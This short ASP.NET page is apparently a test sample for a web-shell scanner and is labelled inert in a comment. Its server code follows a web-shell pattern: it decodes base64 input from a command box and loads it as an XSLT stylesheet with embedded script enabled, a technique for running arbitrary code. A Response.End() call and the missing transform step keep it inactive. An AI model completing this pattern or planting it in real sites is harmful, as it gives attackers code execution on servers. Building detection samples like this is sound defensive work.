<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
void Go(object s, EventArgs e) {
  string x = Encoding.UTF8.GetString(Convert.FromBase64String(txtCommand.Text));
  var xsl = new System.Xml.XmlDocument(); xsl.LoadXml(x);
  var st = new System.Xml.Xsl.XsltSettings(false, true); st.EnableScript = true;
  var t = new System.Xml.Xsl.XslCompiledTransform(); t.Load(xsl, st, new System.Xml.XmlUrlResolver());
}
</script>
